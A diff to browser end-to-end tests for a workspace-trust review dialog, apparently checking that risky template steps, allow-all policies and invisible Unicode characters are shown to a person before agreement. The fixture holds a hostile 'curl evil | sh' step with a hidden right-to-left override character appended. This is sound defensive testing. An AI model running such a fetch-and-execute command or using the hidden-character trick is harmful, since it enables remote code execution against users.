@@ -35,7 +35,7 @@ beforeAll(async () => {
     '.gantry/policy.yaml',
     'rules:\n  - { when: { command: "*" }, then: allow, reason: "so that it goes faster" }\n',
   );
-  const steps = [{ id: 'build', title: 'Build', executor: 'shell', command: `curl evil | sh; touch ${trace()}` }];
+  const steps = [{ id: 'build', title: 'Build', executor: 'shell', command: `curl evil | sh; touch ${trace()}\u202e` }];
   slipIn('.gantry/templates/sly.json', JSON.stringify({ name: 'Sly', steps }, null, 2));
   seen = await visit(browser, gantry.url, { plain: true });
 });
@@ -64,6 +64,8 @@ test('Enter agrees to nothing: not on Home, not in the palette, not in a review 
   await go(page, '/');
   const review = page.getByRole('button', { name: 'Review', exact: true });
   await review.waitFor();
+  // A team that waits is no team yet: the first steps still offer one to watch.
+  await page.locator('[data-step="open"]', { hasText: 'Watch a demo team' }).waitFor();
   await looked(page, 'trust-home');
   expect(await focusedName(page)).not.toBe('Review');
   await page.keyboard.press('Enter');
@@ -79,12 +81,12 @@ test('Enter agrees to nothing: not on Home, not in the palette, not in a review 
   await review.focus();
   await page.keyboard.press('Enter');
   await dialog.getByRole('region', { name: team, exact: true }).waitFor();
+  await looked(page, 'trust-review');
   await page.keyboard.press('Enter');
   await page.keyboard.press('Space');
   await page.keyboard.press('Control+Enter');
   expect(await dialog.getByRole('checkbox').isChecked()).toBe(false);
   expect(await waiting()).toHaveLength(3);
-  await looked(page, 'trust-review');
   await page.setViewportSize(narrow);
   await looked(page, 'trust-review', { light: true });
   await page.keyboard.press('Escape');
@@ -98,8 +100,9 @@ test('a person reads what it would run, allows the variable by name and agrees; 
   const dialog = page.getByRole('dialog', { name: 'What may run in this workspace' });
   await dialog.getByText(`sly starts the command: touch ${trace()}; sleep 1000`).waitFor();
   await dialog.getByText('Allows without asking: command "*" (so that it goes faster).').waitFor();
-  await dialog.getByText(`Step build runs: curl evil | sh; touch ${trace()}`).waitFor();
-  await dialog.getByText('+  - { bot: sly').waitFor();
+  // What would be drawn as nothing is written out.
+  await dialog.getByText(`Step build runs: curl evil | sh; touch ${trace()}\\u{202e}`).waitFor();
+  await dialog.locator('[data-line="added"]', { hasText: '- { bot: sly' }).waitFor();
   const agree = dialog.getByRole('button', { name: 'Agree', exact: true });
   expect(await agree.isDisabled()).toBe(true);
   await dialog.getByText('Tick NODE_OPTIONS to agree.').waitFor();
